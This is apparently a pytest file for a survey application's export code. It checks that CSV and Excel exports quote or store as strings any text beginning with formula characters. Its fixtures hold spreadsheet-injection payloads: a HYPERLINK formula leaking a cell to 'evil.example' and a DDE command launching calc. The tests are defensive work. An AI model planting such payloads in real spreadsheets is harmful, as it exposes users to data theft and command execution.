"""Texts that spreadsheets would run as formulas: neutralised in the results CSV, string cells in the XLSX."""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest
from openpyxl import load_workbook

from consult.analysis.tasks import start_analysis
from consult.gap import exports, services
from consult.gap.cells import FORMULA_STARTS, neutralised
from consult.gap.services import AssessmentChange
from consult.surveys.questionnaires import spec
from tests.conftest import small_questionnaire

LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
DANGEROUS = (
    LEAK,
    '+HYPERLINK("http://evil.example")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_beginning_with_a_formula_character_is_quoted(text):
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("value", ["Ethics", "", "a=b", "x+1", "'=1", "\n=1"])
def test_other_text_is_unchanged(value):
    assert neutralised(value) == value


@pytest.mark.parametrize("value", [-1, -0.25, 3, 0.5, None, True, "-1", "-0.25", "+3", "-1.5e-3", "-.5"])
def test_numbers_stay_numbers(value):
    assert neutralised(value) == value


@pytest.mark.parametrize(("value", "written"), [(-0.25, "-0.25"), (-3, "-3"), (LEAK, "'" + LEAK)])
def test_csv_values_keep_numbers_and_quote_formulas(value, written):
    assert exports.csv_value(value) == written


def both(text: str) -> dict[str, str]:
    return {"en": text, "fr": text}


def dangerous_questionnaire() -> spec.Questionnaire:
    """The small questionnaire with every title, label and statement beginning with a formula character."""
    q = small_questionnaire()
    texts = iter(DANGEROUS * 8)
    sections = tuple(
        dataclasses.replace(
            section,
            title=both(next(texts)),
            items=tuple(dataclasses.replace(item, text=both(next(texts))) for item in section.items),
        )
        for section in q.sections
    )
    dimensions = tuple(
        dataclasses.replace(
            dimension,
            label=both(next(texts)),
            options=tuple(dataclasses.replace(o, label=both(next(texts))) for o in dimension.options),
        )
        for dimension in q.dimensions
    )
    labels = tuple(next(texts) for _ in range(q.scale.points))
    scale = dataclasses.replace(q.scale, labels={"en": labels, "fr": labels})
    return dataclasses.replace(q, title=both(LEAK), sections=sections, dimensions=dimensions, scale=scale)


@pytest.fixture
def dangerous(make_campaign, add_responses):
    """An analysed campaign whose texts, and the working group's, all begin with a formula character."""
    campaign = make_campaign(dangerous_questionnaire(), status="open", title=LEAK)
    add_responses(campaign, 160)
    start_analysis(campaign)
    for section, (gap, initiatives) in zip(("P01", "P14"), (DANGEROUS[:2], DANGEROUS[2:4]), strict=True):
        change = AssessmentChange(None, "", gap, initiatives, None)
        services.save_assessment(campaign.id, section, change, None)
    return campaign


def test_the_workbook_has_no_formula_cell(dangerous):
    workbook = load_workbook(io.BytesIO(exports.export_campaign(dangerous, "xlsx").content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert LEAK in texts and any(text.startswith("@SUM") for text in texts)
    assert any(text.startswith("=") for text in texts if text != LEAK)
    assert any(isinstance(cell.value, int | float) and cell.data_type == "n" for cell in cells)


def test_the_results_csv_has_no_formula_field(dangerous):
    text = exports.export_campaign(dangerous, "csv").content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    fields = [value for row in rows for value in row.values()]
    assert [value for value in fields if value.startswith(FORMULA_STARTS) and not is_number(value)] == []
    titles = {row["title"] for row in rows if row["level"] == "section"}
    assert titles == {"'" + DANGEROUS[0], "'" + DANGEROUS[3]}
    assert all(is_number(row["mean"]) for row in rows if row["level"] == "item")


def is_number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True
